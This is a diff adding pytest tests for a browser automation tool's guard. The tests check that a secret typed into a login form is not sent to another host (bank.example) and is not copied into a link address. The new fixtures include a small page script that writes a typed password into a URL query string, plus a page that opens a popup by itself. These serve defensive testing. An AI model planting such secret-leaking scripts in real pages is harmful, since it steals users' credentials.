@@ -8,8 +8,9 @@ import pytest
 
 from policies.action import BrowserClick, BrowserSubmit, Control, EffectClass, FormField
 from policies.errors import ActionFailed
-from tests.tools.browser.conftest import EMAIL, HANDLE, PASSWORD, Hand
+from tests.tools.browser.conftest import EMAIL, HANDLE, Hand
 from tests.tools.browser.site import Seen, Site
+from tools.browser.guard import Guard
 from tools.browser.session import Browser
 from tools.errors import ToolError
 
@@ -45,6 +46,33 @@ async def test_a_login_is_judged_by_names_and_sent_with_the_secret(hand: Hand, w
     )
     assert "received" in (await hand.act(action)).text
     assert web.posted()[0].body.startswith("csrf=abcdefghijklmnop0123&user=clerk&password=made-up+pa%22ss")
+
+
+async def test_a_secret_goes_to_no_other_host_and_into_no_address(hand: Hand, web: Site) -> None:
+    elsewhere = LOGIN.format(token="").replace("action=/login", "action=http://bank.example/login")
+    await hand.open(web.show("/", elsewhere))
+    await hand.fill('"Password"', "secret://shop", secrets=frozenset({"shop"}))
+    with pytest.raises(ToolError, match="another host"):
+        await submit(hand, '"Log in"')
+    copy = "<a id=a href=/>Help</a><script>onchange=e=>{a.href='/?'+encodeURIComponent(e.target.value)}</script>"
+    await hand.open(web.show("/", LOGIN.format(token="") + copy))
+    await hand.fill('"Password"', "secret://shop", secrets=frozenset({"shop"}))
+    with pytest.raises(ToolError, match="another place"):
+        await hand.do.resolve_click("r1", hand.ref('"Help"'))
+
+
+async def test_a_form_in_a_shadow_root_is_a_form(hand: Hand, web: Site) -> None:
+    script = f"h.attachShadow({{mode:'open'}}).innerHTML=`{POST}`"
+    await hand.open(web.show("/", f"<div id=h></div><script>{script}</script>"))
+    assert (await submit(hand, '"Go"')).fields == fields(("a", "1"))
+    assert "received" in await hand.click('"Go"')
+
+
+async def test_a_window_that_a_page_opens_by_itself_is_closed(hand: Hand, web: Site) -> None:
+    web.show("/popup", "popup")
+    text = await hand.open(web.show("/", "first<script>open('/popup')</script>"))
+    assert "first" in text and "note: a new window was closed" in text
+    assert await hand.do.current("r1") == URL
 
 
 async def test_a_page_opened_again_has_the_form_that_was_approved(hand: Hand, web: Site, browser: Browser) -> None:
@@ -307,10 +335,16 @@ async def test_two_runs_share_neither_page_nor_cookies(hand: Hand, web: Site, br
         assert not hand.do.has_page("r2")
         other = browser.open_tab("r2")
         assert other is not None and await other.context.cookies() == []
-        await asyncio.gather(*(other.page.goto(web.show("/2", "<iframe src=/2f></iframe>")) for _ in range(1)))
+        web.show("/inner", "inner")
+        other.guard = Guard()  # held by its own run only
+        await asyncio.gather(
+            hand.open(web.show("/a", "<iframe src=/inner></iframe><script>fetch('/b',{method:'POST'})</script>")),
+            other.page.goto(web.show("/c", "<script>fetch('/d',{method:'POST'})</script>")),
+        )
+        await other.settle()
     finally:
         await browser.close("r2")
-    assert PASSWORD not in hand.text
+    assert "inner" in hand.text and [seen.path for seen in web.posted()] == ["/b"]
 
 
 async def test_an_upload_is_refused(hand: Hand, web: Site) -> None:
